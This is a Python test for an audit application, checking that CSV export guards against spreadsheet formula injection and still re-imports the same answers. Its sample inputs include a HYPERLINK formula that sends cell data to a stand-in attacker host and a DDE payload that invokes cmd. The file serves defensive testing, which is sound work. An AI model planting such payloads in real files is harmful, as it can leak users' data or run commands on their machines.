"""An audit export neutralises formulas in every cell and still imports as the same audits."""

from __future__ import annotations

import csv
import datetime as dt
import io

import msgspec

from audits.fieldwork.export import export_audits
from audits.fieldwork.imports import import_audits
from audits.tables import Audit

from ..conftest import run
from ..web.audit_fixtures import perfect_answers

TEXT_ITEM = "staff_description"
NASTY = [
    '=HYPERLINK("http://evil.example/?"&A1,"Open")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "'=already quoted",
    "-3.5",
    "- a list, as typed",
]


def _item_file(doc, texts: list[str]) -> str:
    keys = [i.key for i in doc.items() if i.type.value != "photo"]
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\n")  # the other system's file, as it came
    writer.writerow(["audit_ref", "visited_at", "branch", "auditor", *(f"item:{k}" for k in keys)])
    for n, text in enumerate(texts):
        answers = {**perfect_answers(doc), TEXT_ITEM: text}
        cells = [{True: "yes", False: "no"}.get(answers.get(k), answers.get(k, "")) for k in keys]
        writer.writerow([f"t-{n}", "2026-03-10T10:00", "B1", "sam", *cells])
    return out.getvalue()


def _texts() -> dict[str, str]:
    rows = run(Audit.select(Audit.external_ref, Audit.answers).run())
    answers = {
        row["external_ref"]: msgspec.json.decode(a) if isinstance(a := row["answers"], str) else a
        for row in rows
    }
    return {ref: given[TEXT_ITEM] for ref, given in answers.items()}


def _import(text: str) -> None:
    now = dt.datetime(2026, 11, 30, tzinfo=dt.UTC)
    run(import_audits(text, checklist="service-fundamentals", now=now))


def test_export_guards_formulas_and_reimports_the_same_answers(org):
    _import(_item_file(org, NASTY))
    stored = _texts()
    assert stored["t-2"] == "=already quoted"  # a spreadsheet's own guard is taken off
    assert [stored[f"t-{n}"] for n in (0, 1, 3, 4)] == [NASTY[n] for n in (0, 1, 3, 4)]
    exported, count = run(export_audits(checklist="service-fundamentals"))
    assert count == len(NASTY)
    rows = list(csv.DictReader(io.StringIO(exported)))
    written = {row["audit_ref"]: row[f"item:{TEXT_ITEM}"] for row in rows}
    assert written["t-0"].startswith("'=") and written["t-1"].startswith("'@")
    assert written["t-2"] == "'=already quoted" and written["t-3"] == "-3.5"
    assert written["t-4"] == "'- a list, as typed"
    run(Audit.delete(force=True).run())
    _import(exported)
    assert _texts() == stored
    assert run(export_audits(checklist="service-fundamentals")) == (exported, count)
